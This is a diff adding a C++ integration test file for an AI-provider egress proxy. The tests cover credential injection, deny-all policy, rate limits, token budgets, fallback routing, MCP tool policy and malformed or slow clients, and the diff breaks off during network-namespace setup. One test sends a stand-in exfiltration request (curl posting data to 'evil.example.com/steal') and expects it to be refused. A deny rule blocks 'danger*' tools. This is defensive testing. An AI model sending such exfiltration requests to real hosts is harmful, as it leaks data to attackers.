@@ -1,0 +1,838 @@
+// The egress data plane end to end, in process: real clients (curl, Python requests/httpx) talk
+// through the explicit listener to mock providers that speak the OpenAI, Anthropic, Gemini and
+// MCP wire formats over TLS, with the policy compiled from real manifests.
+#include "harness.h"
+
+#include "clrk/api/codec.h"
+#include "clrk/api/registry.h"
+#include "clrk/egress/config/snapshot.h"
+#include "clrk/egress/proxy.h"
+#include "clrk/egress/tls/authority.h"
+#include "clrk/egress/tls/leaf_cache.h"
+#include "clrk/mockprovider/mock_server.h"
+#include "clrk/telemetry/attributes.h"
+#include "clrk/telemetry/pipeline.h"
+
+#include <boost/asio.hpp>
+#include <gmock/gmock.h>
+#include <gtest/gtest.h>
+
+#include <chrono>
+#include <filesystem>
+#include <fstream>
+#include <mutex>
+#include <sys/socket.h>
+#include <thread>
+#include <unistd.h>
+
+namespace clrk {
+namespace {
+
+namespace fs = std::filesystem;
+using nlohmann::json;
+using ::testing::HasSubstr;
+using ::testing::Not;
+
+constexpr std::string_view kOpenAiSecret = "sk-injected-openai-SECRET-7f3a";
+constexpr std::string_view kAnthropicSecret = "ak-injected-anthropic-SECRET-91bc";
+constexpr std::string_view kGeminiSecret = "gk-injected-gemini-SECRET-55d0";
+
+// Collects delivered records in memory.
+class MemorySink : public telemetry::Sink {
+ public:
+  std::string name() const override { return "memory"; }
+  Status deliver(std::span<const telemetry::Record> batch) override {
+    std::lock_guard lock(mutex_);
+    records_.insert(records_.end(), batch.begin(), batch.end());
+    return {};
+  }
+  std::vector<telemetry::Record> records() const {
+    std::lock_guard lock(mutex_);
+    return records_;
+  }
+
+ private:
+  mutable std::mutex mutex_;
+  std::vector<telemetry::Record> records_;
+};
+
+std::string manifests(uint16_t /*unused*/) {
+  return fmt::format(R"(
+apiVersion: v1
+kind: Secret
+metadata: {{name: openai-key, namespace: default}}
+stringData: {{token: "{}"}}
+---
+apiVersion: v1
+kind: Secret
+metadata: {{name: anthropic-key, namespace: default}}
+stringData: {{api-key: "{}"}}
+---
+apiVersion: v1
+kind: Secret
+metadata: {{name: gemini-key, namespace: default}}
+stringData: {{token: "{}"}}
+---
+apiVersion: clrk.apoxy.dev/v1alpha1
+kind: EgressGateway
+metadata: {{name: default, namespace: default}}
+spec:
+  defaultPolicy: deny-all
+  listeners:
+  - name: https
+    protocol: TLS
+    tls: {{mode: Terminate}}
+  - name: http
+    protocol: HTTP
+  - name: pass
+    protocol: TLS
+    port: 9443
+    tls: {{mode: Passthrough}}
+---
+apiVersion: clrk.apoxy.dev/v1alpha1
+kind: EgressL4Route
+metadata: {{name: pass, namespace: default}}
+spec:
+  parentRefs: [{{name: default, sectionName: pass}}]
+  rules:
+  - matches: [{{destinationHostnames: [pass.example.com], ports: [{{port: 9443}}]}}]
+---
+apiVersion: clrk.apoxy.dev/v1alpha1
+kind: RateLimitPolicy
+metadata: {{name: three-per-minute, namespace: default}}
+spec: {{requests: 3, window: 1m, scope: PerRoute}}
+---
+apiVersion: clrk.apoxy.dev/v1alpha1
+kind: AIProviderRoute
+metadata: {{name: openai, namespace: default}}
+spec:
+  parentRefs: [{{name: default}}]
+  rules:
+  - matches: [{{provider: openai, models: ["limited-*"]}}]
+    filters:
+    - type: ExtensionRef
+      extensionRef: {{group: clrk.apoxy.dev, kind: RateLimitPolicy, name: three-per-minute}}
+  - matches: [{{provider: openai, models: ["budget-*"]}}]
+    filters:
+    - type: TokenBudget
+      tokenBudget: {{maxTokensPerDay: 20}}
+  - matches: [{{provider: openai}}]
+---
+apiVersion: clrk.apoxy.dev/v1alpha1
+kind: CredentialInjectionPolicy
+metadata: {{name: openai-key, namespace: default}}
+spec:
+  targetRefs: [{{group: clrk.apoxy.dev, kind: AIProviderRoute, name: openai}}]
+  secretRef: {{name: openai-key}}
+  target: Header
+  headerName: Authorization
+---
+apiVersion: clrk.apoxy.dev/v1alpha1
+kind: Backend
+metadata: {{name: anthropic-primary, namespace: default}}
+spec:
+  schema: {{name: anthropic}}
+  upstream: {{host: primary.example.com, port: 443}}
+---
+apiVersion: clrk.apoxy.dev/v1alpha1
+kind: Backend
+metadata: {{name: anthropic-direct, namespace: default}}
+spec:
+  schema: {{name: anthropic}}
+  upstream: {{host: api.anthropic.com, port: 443}}
+---
+apiVersion: clrk.apoxy.dev/v1alpha1
+kind: AIProviderRoute
+metadata: {{name: anthropic, namespace: default}}
+spec:
+  parentRefs: [{{name: default}}]
+  rules:
+  - matches: [{{provider: anthropic, endpoints: [/v1/messages]}}]
+    backendRefs:
+    - {{group: clrk.apoxy.dev, kind: Backend, name: anthropic-primary}}
+    - {{group: clrk.apoxy.dev, kind: Backend, name: anthropic-direct}}
+---
+apiVersion: clrk.apoxy.dev/v1alpha1
+kind: FallbackRoutingPolicy
+metadata: {{name: anthropic, namespace: default}}
+spec:
+  targetRefs: [{{group: clrk.apoxy.dev, kind: AIProviderRoute, name: anthropic}}]
+---
+apiVersion: clrk.apoxy.dev/v1alpha1
+kind: CredentialInjectionPolicy
+metadata: {{name: anthropic-key, namespace: default}}
+spec:
+  targetRefs: [{{group: clrk.apoxy.dev, kind: AIProviderRoute, name: anthropic}}]
+  secretRef: {{name: anthropic-key}}
+  secretKey: api-key
+  target: Header
+  headerName: x-api-key
+---
+apiVersion: clrk.apoxy.dev/v1alpha1
+kind: AIProviderRoute
+metadata: {{name: gemini, namespace: default}}
+spec:
+  parentRefs: [{{name: default}}]
+  rules:
+  - matches: [{{provider: google}}]
+    filters:
+    - type: RequestHeaderModifier
+      requestHeaderModifier:
+        set: [{{name: x-clrk-route, value: gemini}}]
+        remove: [x-agent-debug]
+---
+apiVersion: clrk.apoxy.dev/v1alpha1
+kind: CredentialInjectionPolicy
+metadata: {{name: gemini-key, namespace: default}}
+spec:
+  targetRefs: [{{group: clrk.apoxy.dev, kind: AIProviderRoute, name: gemini}}]
+  secretRef: {{name: gemini-key}}
+  target: Header
+  headerName: x-goog-api-key
+---
+apiVersion: clrk.apoxy.dev/v1alpha1
+kind: MCPRoute
+metadata: {{name: tools, namespace: default}}
+spec:
+  parentRefs: [{{name: default}}]
+  hostnames: [mcp.internal]
+  rules:
+  - filters:
+    - type: ToolPolicy
+      toolPolicy: {{deniedTools: ["danger*"]}}
+)",
+                     kOpenAiSecret, kAnthropicSecret, kGeminiSecret);
+}
+
+constexpr std::string_view kAllowAllManifest = R"(
+apiVersion: clrk.apoxy.dev/v1alpha1
+kind: EgressGateway
+metadata: {name: open, namespace: default}
+spec:
+  defaultPolicy: allow-all
+  listeners:
+  - name: https
+    protocol: TLS
+    tls: {mode: Terminate}
+  - name: http
+    protocol: HTTP
+)";
+
+std::shared_ptr<const egress::config::Snapshot> compileManifests(std::string_view text,
+                                                                 std::vector<std::string>* bad) {
+  auto documents = api::decodeManifests(text, "test.yaml");
+  EXPECT_TRUE(documents.ok()) << documents.status().toString();
+  std::vector<json> objects;
+  for (auto& document : documents.value()) {
+    Status status = api::checkDocument(api::Registry::builtin(), document);
+    EXPECT_TRUE(status.ok()) << status.toString();
+    objects.push_back(document.object);
+  }
+  auto result = egress::config::compile(objects, 1);
+  for (const auto& status : result.statuses) {
+    if (!status.accepted) {
+      bad->push_back(fmt::format("{} {}: {}", status.kind, status.name, status.message));
+    }
+  }
+  return result.snapshot;
+}
+
+class EgressTest : public ::testing::Test {
+ protected:
+  static void SetUpTestSuite() {
+    dir_ =
+        new fs::path(fs::temp_directory_path() / ("clrk-egress-test-" + std::to_string(getpid())));
+    fs::create_directories(*dir_);
+    // The upstream CA: signs the mock providers' certificates; the proxy trusts it.
+    auto upstream_ca =
+        egress::tls::CertificateAuthority::generate("upstream test CA", std::chrono::hours(24));
+    ASSERT_TRUE(upstream_ca.ok());
+    upstream_ca_ =
+        new std::shared_ptr<const egress::tls::CertificateAuthority>(upstream_ca.value());
+    mocks_ = new std::map<std::string, std::unique_ptr<mockprovider::MockServer>>();
+    for (const char* host :
+         {"api.openai.com", "api.anthropic.com", "generativelanguage.googleapis.com",
+          "primary.example.com", "pass.example.com"}) {
+      auto leaf = egress::tls::mintLeafPem(**upstream_ca_, host);
+      ASSERT_TRUE(leaf.ok());
+      mockprovider::MockOptions options;
+      options.tls_cert_pem = leaf->cert_pem;
+      options.tls_key_pem = leaf->key_pem;
+      options.name = host;
+      if (std::string_view(host) == "primary.example.com") options.fail_status = 503;
+      auto mock = mockprovider::MockServer::start(options);
+      ASSERT_TRUE(mock.ok()) << mock.status().toString();
+      (*mocks_)[host] = std::move(mock).value();
+    }
+    mockprovider::MockOptions mcp_options;
+    mcp_options.name = "mcp";
+    auto mcp = mockprovider::MockServer::start(mcp_options);
+    ASSERT_TRUE(mcp.ok());
+    (*mocks_)["mcp.internal"] = std::move(mcp).value();
+  }
+  static void TearDownTestSuite() {
+    delete mocks_;
+    delete upstream_ca_;
+    std::error_code ec;
+    fs::remove_all(*dir_, ec);
+    delete dir_;
+  }
+
+  void SetUp() override {
+    std::vector<std::string> bad;
+    governed_.swap(compileManifests(manifests(0), &bad));
+    EXPECT_THAT(bad, ::testing::IsEmpty());
+    open_.swap(compileManifests(kAllowAllManifest, &bad));
+    sink_ = std::make_shared<MemorySink>();
+    telemetry::PipelineOptions pipeline_options;
+    pipeline_options.spool_dir = *dir_ / ("spool-" + std::to_string(counter_++));
+    pipeline_options.fsync = false;
+    pipeline_options.sinks.push_back(sink_);
+    auto pipeline = telemetry::Pipeline::start(pipeline_options);
+    ASSERT_TRUE(pipeline.ok()) << pipeline.status().toString();
+    pipeline_ = std::move(pipeline).value();
+
+    egress::ProxyOptions options;
+    options.explicit_listen = "127.0.0.1:0";
+    options.extra_upstream_ca_pem = (*upstream_ca_)->certPem();
+    options.header_timeout_ms = 1500;
+    options.max_header_bytes = 16 * 1024;
+    for (const auto& [host, mock] : *mocks_) {
+      uint16_t port = host == "mcp.internal" ? 80 : host == "pass.example.com" ? 9443 : 443;
+      options.upstream_overrides.emplace_back(fmt::format("{}:{}", host, port),
+                                              fmt::format("127.0.0.1:{}", mock->port()));
+    }
+    // An upstream with a certificate for another name, and one that is down.
+    options.upstream_overrides.emplace_back(
+        "badcert.example.com:443", fmt::format("127.0.0.1:{}", mock("api.openai.com").port()));
+    options.upstream_overrides.emplace_back("down.example.com:443",
+                                            fmt::format("127.0.0.1:{}", closedPort()));
+    auto proxy = egress::Proxy::start(options, governed_, identities_, pipeline_.get());
+    ASSERT_TRUE(proxy.ok()) << proxy.status().toString();
+    proxy_ = std::move(proxy).value();
+    auto open = egress::Proxy::start(options, open_, identities_, pipeline_.get());
+    ASSERT_TRUE(open.ok()) << open.status().toString();
+    open_proxy_ = std::move(open).value();
+    ca_file_ = (*dir_ / "proxy-ca.pem").string();
+    std::ofstream(ca_file_) << proxy_->caCertificatePem();
+    open_ca_file_ = (*dir_ / "open-ca.pem").string();
+    std::ofstream(open_ca_file_) << open_proxy_->caCertificatePem();
+    upstream_ca_file_ = (*dir_ / "upstream-ca.pem").string();
+    std::ofstream(upstream_ca_file_) << (*upstream_ca_)->certPem();
+    for (auto& [host, mock] : *mocks_) mock->clearRequests();
+  }
+
+  void TearDown() override {
+    if (proxy_) proxy_->stop();
+    if (open_proxy_) open_proxy_->stop();
+    pipeline_.reset();
+  }
+
+  static mockprovider::MockServer& mock(const std::string& host) { return *mocks_->at(host); }
+
+  static uint16_t closedPort() {
+    boost::asio::io_context io;
+    boost::asio::ip::tcp::acceptor acceptor(
+        io, boost::asio::ip::tcp::endpoint(boost::asio::ip::make_address("127.0.0.1"), 0));
+    return acceptor.local_endpoint().port();  // closed again when acceptor goes
+  }
+
+  std::string proxyUrl() const {
+    return fmt::format("http://127.0.0.1:{}", proxy_->explicitPort());
+  }
+  std::string openProxyUrl() const {
+    return fmt::format("http://127.0.0.1:{}", open_proxy_->explicitPort());
+  }
+
+  // curl through the governed proxy; prints the body then "\nHTTP <status>".
+  testing::CommandResult curl(const std::string& args, bool open = false) const {
+    return testing::runCommand(
+        fmt::format("curl -sS --max-time 20 -x {} --cacert {} -w '\\nHTTP %{{http_code}}' {}",
+                    open ? openProxyUrl() : proxyUrl(), open ? open_ca_file_ : ca_file_, args));
+  }
+
+  std::vector<telemetry::Record> records() {
+    pipeline_->flush(std::chrono::seconds(5));
+    return sink_->records();
+  }
+
+  // The single record whose url.full ends with `suffix` (fails the test if not exactly one).
+  std::optional<telemetry::Record> recordFor(std::string_view name_part) {
+    std::optional<telemetry::Record> found;
+    for (auto& record : records()) {
+      if (record.name.find(name_part) != std::string::npos) found = record;
+    }
+    return found;
+  }
+
+  static std::string str(const telemetry::Record& record, std::string_view key) {
+    const std::string* value = telemetry::findString(record, key);
+    return value ? *value : "";
+  }
+  static int64_t num(const telemetry::Record& record, std::string_view key) {
+    return telemetry::findInt(record, key).value_or(-1);
+  }
+
+  static fs::path* dir_;
+  static std::shared_ptr<const egress::tls::CertificateAuthority>* upstream_ca_;
+  static std::map<std::string, std::unique_ptr<mockprovider::MockServer>>* mocks_;
+  static int counter_;
+
+  egress::config::SnapshotHolder governed_;
+  egress::config::SnapshotHolder open_;
+  egress::IdentityMap identities_;
+  std::shared_ptr<MemorySink> sink_;
+  std::unique_ptr<telemetry::Pipeline> pipeline_;
+  std::unique_ptr<egress::Proxy> proxy_;
+  std::unique_ptr<egress::Proxy> open_proxy_;
+  std::string ca_file_;
+  std::string open_ca_file_;
+  std::string upstream_ca_file_;
+};
+
+fs::path* EgressTest::dir_ = nullptr;
+std::shared_ptr<const egress::tls::CertificateAuthority>* EgressTest::upstream_ca_ = nullptr;
+std::map<std::string, std::unique_ptr<mockprovider::MockServer>>* EgressTest::mocks_ = nullptr;
+int EgressTest::counter_ = 0;
+
+const char* kChatBody =
+    R"({"model":"gpt-4o-mini","messages":[{"role":"user","content":"one two three"}]})";
+
+TEST_F(EgressTest, OpenAiCallIsAllowedInjectedAndRecorded) {
+  auto result =
+      curl(fmt::format("https://api.openai.com/v1/chat/completions "
+                       "-H 'Authorization: Bearer sk-agent-own-key' "
+                       "-H 'Content-Type: application/json' -d '{}'",
+                       kChatBody));
+  ASSERT_EQ(result.exit_code, 0) << result.output;
+  EXPECT_THAT(result.output, HasSubstr("HTTP 200"));
+  EXPECT_THAT(result.output, HasSubstr("chat.completion"));
+  // The upstream saw the Secret's key, never the agent's.
+  auto requests = mock("api.openai.com").requests();
+  ASSERT_EQ(requests.size(), 1u);
+  EXPECT_EQ(requests[0].api_key, kOpenAiSecret);
+  EXPECT_EQ(requests[0].header("Authorization"), fmt::format("Bearer {}", kOpenAiSecret));
+  for (const auto& [name, value] : requests[0].headers) {
+    EXPECT_THAT(value, Not(HasSubstr("sk-agent-own-key"))) << name;
+  }
+  auto record = recordFor("api.openai.com /v1/chat/completions");
+  ASSERT_TRUE(record.has_value());
+  EXPECT_EQ(str(*record, telemetry::attr::kGenAiSystem), "openai");
+  EXPECT_EQ(str(*record, telemetry::attr::kGenAiRequestModel), "gpt-4o-mini");
+  EXPECT_EQ(str(*record, telemetry::attr::kGenAiResponseModel), "gpt-4o-mini");
+  EXPECT_EQ(num(*record, telemetry::attr::kHttpResponseStatusCode), 200);
+  EXPECT_EQ(num(*record, telemetry::attr::kGenAiUsageInputTokens), 3);
+  EXPECT_GT(num(*record, telemetry::attr::kGenAiUsageOutputTokens), 0);
+  EXPECT_EQ(str(*record, telemetry::attr::kClrkDecision), "allow");
+  EXPECT_EQ(str(*record, telemetry::attr::kClrkCredentialPolicy), "default/openai-key");
+  EXPECT_THAT(str(*record, telemetry::attr::kClrkRule),
+              HasSubstr("AIProviderRoute default/openai"));
+  EXPECT_TRUE(telemetry::find(*record, telemetry::attr::kClrkTtfbMs) != nullptr);
+  // The Secret never appears in any record.
+  for (const auto& any : records()) {
+    EXPECT_THAT(telemetry::toJson(any), Not(HasSubstr(kOpenAiSecret)));
+  }
+}
+
+TEST_F(EgressTest, StreamingUsageIsCountedFromSse) {
+  auto result = curl(
+      "-N https://api.openai.com/v1/chat/completions -H 'Content-Type: application/json' "
+      "-d '{\"model\":\"gpt-4o\",\"stream\":true,\"stream_options\":{\"include_usage\":true},"
+      "\"messages\":[{\"role\":\"user\",\"content\":\"alpha beta\"}]}'");
+  ASSERT_EQ(result.exit_code, 0) << result.output;
+  EXPECT_THAT(result.output, HasSubstr("data: [DONE]"));
+  auto record = recordFor("api.openai.com /v1/chat/completions");
+  ASSERT_TRUE(record.has_value());
+  EXPECT_EQ(num(*record, telemetry::attr::kGenAiUsageInputTokens), 2);
+  EXPECT_GT(num(*record, telemetry::attr::kClrkUsageTotalTokens), 2);
+}
+
+TEST_F(EgressTest, DeniedHostGetsJsonNamingTheRule) {
+  auto result = curl("https://evil.example.com/steal -d 'x=1'");
+  ASSERT_EQ(result.exit_code, 0) << result.output;
+  EXPECT_THAT(result.output, HasSubstr("HTTP 403"));
+  EXPECT_THAT(result.output, HasSubstr("clrk_egress_denied"));
+  EXPECT_THAT(result.output, HasSubstr("deny-all"));
+  auto record = recordFor("evil.example.com");
+  ASSERT_TRUE(record.has_value());
+  EXPECT_EQ(str(*record, telemetry::attr::kClrkDecision), "deny");
+  // Plain HTTP is refused the same way.
+  auto plain = curl("http://evil.example.com/x");
+  EXPECT_THAT(plain.output, HasSubstr("HTTP 403"));
+  EXPECT_THAT(plain.output, HasSubstr("deny-all"));
+}
+
+TEST_F(EgressTest, RateLimitAnswers429InProviderShapeWithRetryAfter) {
+  std::string request =
+      "-D - https://api.openai.com/v1/chat/completions "
+      "-H 'Content-Type: application/json' "
+      "-d '{\"model\":\"limited-1\",\"messages\":[{\"role\":\"user\","
+      "\"content\":\"hi\"}]}'";
+  for (int i = 0; i < 3; ++i) {
+    auto ok = curl(request);
+    EXPECT_THAT(ok.output, HasSubstr("HTTP 200")) << i;
+  }
+  auto limited = curl(request);
+  EXPECT_THAT(limited.output, HasSubstr("HTTP 429"));
+  EXPECT_THAT(limited.output, HasSubstr("retry-after:"));
+  EXPECT_THAT(limited.output, HasSubstr("\"type\":\"rate_limit_exceeded\""));  // OpenAI's shape
+  EXPECT_EQ(mock("api.openai.com").requests().size(), 3u);
+}
+
+TEST_F(EgressTest, TokenBudgetRefusesTheRequestAfterTheOneThatCrossedIt) {
+  // Each call uses 10 input tokens plus the answer: the first crosses the 20-token budget and
+  // still completes; the next one is refused.
+  std::string request =
+      "https://api.openai.com/v1/chat/completions "
+      "-H 'Content-Type: application/json' "
+      "-d '{\"model\":\"budget-1\",\"messages\":[{\"role\":\"user\","
+      "\"content\":\"a b c d e f g h i j\"}]}'";
+  auto first = curl(request);
+  EXPECT_THAT(first.output, HasSubstr("HTTP 200"));
+  auto second = curl(request);
+  EXPECT_THAT(second.output, HasSubstr("HTTP 429"));
+  EXPECT_THAT(second.output, HasSubstr("budget"));
+}
+
+TEST_F(EgressTest, FallbackMovesToTheNextBackendAndInjectsPerAttempt) {
+  auto result = curl(
+      "https://api.anthropic.com/v1/messages -H 'anthropic-version: 2023-06-01' "
+      "-H 'x-api-key: agent-key' -H 'Content-Type: application/json' "
+      "-d '{\"model\":\"claude-3-5-haiku\",\"max_tokens\":64,\"messages\":[{\"role\":\"user\","
+      "\"content\":\"hello there\"}]}'");
+  ASSERT_EQ(result.exit_code, 0) << result.output;
+  EXPECT_THAT(result.output, HasSubstr("HTTP 200"));
+  EXPECT_THAT(result.output, HasSubstr("api.anthropic.com"));  // answered by the second backend
+  ASSERT_EQ(mock("primary.example.com").requests().size(), 1u);
+  EXPECT_EQ(mock("primary.example.com").requests()[0].api_key, kAnthropicSecret);
+  ASSERT_EQ(mock("api.anthropic.com").requests().size(), 1u);
+  EXPECT_EQ(mock("api.anthropic.com").requests()[0].api_key, kAnthropicSecret);
+  auto record = recordFor("/v1/messages");
+  ASSERT_TRUE(record.has_value());
+  EXPECT_EQ(str(*record, telemetry::attr::kClrkBackend), "default/anthropic-direct");
+  EXPECT_EQ(num(*record, telemetry::attr::kClrkFallbackCount), 1);
+  EXPECT_EQ(num(*record, telemetry::attr::kGenAiUsageInputTokens), 2);
+}
+
+TEST_F(EgressTest, AnthropicStreamUsageFromPythonHttpx) {
+  std::string script = fmt::format(R"(
+import httpx, json
+with httpx.Client(proxies="{}", verify="{}") as c:
+    with c.stream("POST", "https://api.anthropic.com/v1/messages",
+                  headers={{"anthropic-version": "2023-06-01", "x-api-key": "mine"}},
+                  json={{"model": "claude-x", "max_tokens": 50, "stream": True,
+                        "messages": [{{"role": "user", "content": "four words right here"}}]}}) as r:
+        events = [line for line in r.iter_lines() if line.startswith("event:")]
+        print(r.status_code, len(events), events[-1])
+)",
+                                   proxyUrl(), ca_file_);
+  std::ofstream(*dir_ / "stream.py") << script;
+  auto result = testing::runCommand("/usr/bin/python3 " + (*dir_ / "stream.py").string());
+  ASSERT_EQ(result.exit_code, 0) << result.output;
+  EXPECT_THAT(result.output, HasSubstr("200"));
+  EXPECT_THAT(result.output, HasSubstr("event: message_stop"));
+  auto record = recordFor("/v1/messages");
+  ASSERT_TRUE(record.has_value());
+  EXPECT_EQ(num(*record, telemetry::attr::kGenAiUsageInputTokens), 4);
+  EXPECT_GT(num(*record, telemetry::attr::kGenAiUsageOutputTokens), 0);
+}
+
+TEST_F(EgressTest, GeminiWithPythonRequestsGetsKeyAndHeaderRewrite) {
+  std::string script = fmt::format(R"(
+import requests
+r = requests.post(
+    "https://generativelanguage.googleapis.com/v1beta/models/gemini-2.0-flash:generateContent",
+    proxies={{"https": "{}"}}, verify="{}",
+    headers={{"x-goog-api-key": "agent-key", "x-agent-debug": "1"}},
+    json={{"contents": [{{"parts": [{{"text": "count these five words"}}]}}]}})
+print(r.status_code, r.json()["usageMetadata"]["promptTokenCount"])
+)",
+                                   proxyUrl(), ca_file_);
+  std::ofstream(*dir_ / "gemini.py") << script;
+  auto result = testing::runCommand("/usr/bin/python3 " + (*dir_ / "gemini.py").string());
+  ASSERT_EQ(result.exit_code, 0) << result.output;
+  EXPECT_THAT(result.output, HasSubstr("200 4"));
+  auto requests = mock("generativelanguage.googleapis.com").requests();
+  ASSERT_EQ(requests.size(), 1u);
+  EXPECT_EQ(requests[0].api_key, kGeminiSecret);
+  EXPECT_EQ(requests[0].header("x-clrk-route"), "gemini");
+  EXPECT_EQ(requests[0].header("x-agent-debug"), "");
+  auto record = recordFor("generateContent");
+  ASSERT_TRUE(record.has_value());
+  EXPECT_EQ(str(*record, telemetry::attr::kGenAiRequestModel), "gemini-2.0-flash");
+}
+
+TEST_F(EgressTest, McpToolCallIsRecordedAndDeniedToolRefused) {
+  std::string call =
+      R"({"jsonrpc":"2.0","id":7,"method":"tools/call","params":{"name":"add","arguments":{"a":2,"b":3}}})";
+  auto result =
+      curl(fmt::format("http://mcp.internal/mcp -H 'Content-Type: application/json' "
+                       "-H 'Accept: application/json, text/event-stream' -d '{}'",
+                       call));
+  ASSERT_EQ(result.exit_code, 0) << result.output;
+  EXPECT_THAT(result.output, HasSubstr("HTTP 200"));
+  auto record = recordFor("mcp.internal /mcp");
+  ASSERT_TRUE(record.has_value());
+  EXPECT_EQ(str(*record, telemetry::attr::kMcpMethodName), "tools/call");
+  EXPECT_EQ(str(*record, telemetry::attr::kGenAiToolName), "add");
+  std::string danger =
+      R"({"jsonrpc":"2.0","id":8,"method":"tools/call","params":{"name":"danger_rm","arguments":{}}})";
+  auto denied =
+      curl(fmt::format("http://mcp.internal/mcp -H 'Content-Type: application/json' "
+                       "-d '{}'",
+                       danger));
+  EXPECT_THAT(denied.output, HasSubstr("HTTP 403"));
+  EXPECT_THAT(denied.output, HasSubstr("danger_rm"));
+}
+
+TEST_F(EgressTest, PassthroughKeepsTheUpstreamCertificateAndIsRecordedAtL4) {
+  // No MITM: the client verifies the upstream's own certificate.
+  auto result = testing::runCommand(
+      fmt::format("curl -sS --max-time 10 -x {} --cacert {} -w '\\nHTTP %{{http_code}}' "
+                  "https://pass.example.com:9443/v1/models -H 'Authorization: Bearer k'",
+                  proxyUrl(), upstream_ca_file_));
+  ASSERT_EQ(result.exit_code, 0) << result.output;
+  EXPECT_THAT(result.output, HasSubstr("HTTP 200"));
+  auto record = recordFor("tcp pass.example.com:9443");
+  ASSERT_TRUE(record.has_value());
+  EXPECT_EQ(str(*record, telemetry::attr::kClrkLayer), "l4");
+  EXPECT_EQ(str(*record, telemetry::attr::kTlsServerName), "pass.example.com");
+  EXPECT_GT(num(*record, telemetry::attr::kClrkBytesReceived), 0);
+}
+
+TEST_F(EgressTest, UpstreamDownAndBadCertificateAre502WithReasons) {
+  auto down = curl("https://down.example.com/", true);
+  EXPECT_THAT(down.output, HasSubstr("HTTP 502"));
+  EXPECT_THAT(down.output, HasSubstr("cannot connect"));
+  auto bad = curl("https://badcert.example.com/", true);
+  EXPECT_THAT(bad.output, HasSubstr("HTTP 502"));
+  EXPECT_THAT(bad.output, HasSubstr("certificate"));
+  auto record = recordFor("badcert.example.com");
+  ASSERT_TRUE(record.has_value());
+  EXPECT_EQ(num(*record, telemetry::attr::kHttpResponseStatusCode), 502);
+}
+
+TEST_F(EgressTest, MalformedOversizedAndSlowClientsAreHandled) {
+  namespace net = boost::asio;
+  net::io_context io;
+  auto send = [&](const std::string& bytes, bool wait_close) {
+    net::ip::tcp::socket socket(io);
+    socket.connect({net::ip::make_address("127.0.0.1"), open_proxy_->explicitPort()});
+    net::write(socket, net::buffer(bytes));
+    std::string reply;
+    boost::system::error_code ec;
+    std::array<char, 4096> buffer;
+    for (;;) {
+      size_t n = socket.read_some(net::buffer(buffer), ec);
+      reply.append(buffer.data(), n);
+      if (ec || !wait_close) break;
+    }
+    return reply;
+  };
+  EXPECT_THAT(send("GARBAGE\r\n\r\n", true), HasSubstr("400"));
+  EXPECT_THAT(send("GET http://x.example/ HTTP/1.1\r\nHost: x\r\nX-Big: " +
+                       std::string(64 * 1024, 'a') + "\r\n\r\n",
+                   true),
+              HasSubstr("431"));
+  // Slowloris: half a header, then silence; the proxy closes within the header timeout.
+  auto started = std::chrono::steady_clock::now();
+  std::string reply = send("CONNECT api.openai.com:443 HTTP/1.1\r\nHost: a", true);
+  auto waited = std::chrono::steady_clock::now() - started;
+  EXPECT_LT(waited, std::chrono::seconds(10));
+  // The proxy still serves others afterwards.
+  auto after = curl("https://api.openai.com/v1/models -H 'Authorization: Bearer x'", true);
+  EXPECT_THAT(after.output, HasSubstr("HTTP 200"));
+}
+
+TEST_F(EgressTest, LargeUploadAndKeepAliveReuseUpstream) {
+  // A 3 MiB non-JSON body streams through (not buffered) to an allowed host.
+  fs::path big = *dir_ / "big.bin";
+  {
+    std::ofstream out(big, std::ios::binary);
+    std::string block(1024 * 1024, 'z');
+    for (int i = 0; i < 3; ++i) out << block;
+  }
+  auto result = curl(fmt::format("https://api.openai.com/v1/files -H 'Authorization: Bearer x' "
+                                 "-H 'Content-Type: application/octet-stream' "
+                                 "--data-binary @{} https://api.openai.com/v1/models "
+                                 "-H 'Authorization: Bearer x'",
+                                 big.string()),
+                     true);
+  ASSERT_EQ(result.exit_code, 0) << result.output;
+  auto requests = mock("api.openai.com").requests();
+  ASSERT_GE(requests.size(), 1u);
+  EXPECT_EQ(requests[0].target, "/v1/files");
+  EXPECT_EQ(open_proxy_->stats().upstream_connections_reused, 1u);
+}
+
+// A network namespace wired like a sandbox (environment.md §1): all TCP redirected to the
+// transparent listener, UDP 53 to the DNS server, everything else dropped. Needs root, ip, nft.
+class SandboxNet {
+ public:
+  SandboxNet() {
+    int id = getpid() % 200 + 20;
+    ns_ = fmt::format("clrkeg{}", getpid());
+    host_if_ = fmt::format("veg{}h", id);
+    sandbox_if_ = fmt::format("veg{}s", id);
+    host_ip_ = fmt::format("10.213.{}.1", id);
+    sandbox_ip_ = fmt::format("10.213.{}.2", id);
+    table_ = fmt::format("clrkeg{}", getpid());
+  }
+  ~SandboxNet() { teardown(); }
+
+  // Empty on success, else why the namespace could not be made.
+  std::string setUp(uint16_t tcp_port, uint16_t dns_port) {
+    if (geteuid() != 0) return "needs root";
+    for (const char* tool : {"ip", "nft"}) {
+      if (testing::runCommand(fmt::format("command -v {}", tool)).exit_code != 0) {
+        return std::string(tool) + " not installed";
+      }
+    }
+    teardown();
+    std::vector<std::string> commands = {
+        fmt::format("ip netns add {}", ns_),
+        fmt::format("ip link add {} type veth peer name {}", host_if_, sandbox_if_),
+        fmt::format("ip link set {} netns {}", sandbox_if_, ns_),
+        fmt::format("ip addr add {}/30 dev {}", host_ip_, host_if_),
+        fmt::format("ip link set {} up", host_if_),
+        fmt::format("ip netns exec {} ip addr add {}/30 dev {}", ns_, sandbox_ip_, sandbox_if_),
+        fmt::format("ip netns exec {} ip link set {} up", ns_, sandbox_if_),
+        fmt::format("ip netns exec {} ip link set lo up", ns_),
+        fmt::format("ip netns exec {} ip route add default via {}", ns_, host_ip_),
+        fmt::format("nft add table ip {}", table_),
+        fmt::format("nft 'add chain ip {} prerouting {{ type nat hook prerouting priority dstnat; "
+                    "policy accept; }}'",
+                    table_),
+        fmt::format("nft 'add rule ip {} prerouting iifname \"{}\" udp dport 53 redirect to :{}'",
+                    table_, host_if_, dns_port),
+        fmt::format("nft 'add rule ip {} prerouting iifname \"{}\" meta l4proto tcp redirect to "
+                    ":{}'",
+                    table_, host_if_, tcp_port),
+        fmt::format("nft 'add chain ip {} input {{ type filter hook input priority filter; policy "
+                    "accept; }}'",
+                    table_),
+        fmt::format("nft 'add rule ip {} input iifname \"{}\" ct state established,related "
+                    "accept'",
+                    table_, host_if_),
+        fmt::format("nft 'add rule ip {} input iifname \"{}\" tcp dport {} accept'", table_,
+                    host_if_, tcp_port),
+        fmt::format("nft 'add rule ip {} input iifname \"{}\" udp dport {} accept'", table_,
+                    host_if_, dns_port),
+        fmt::format("nft 'add rule ip {} input iifname \"{}\" drop'", table_, host_if_),
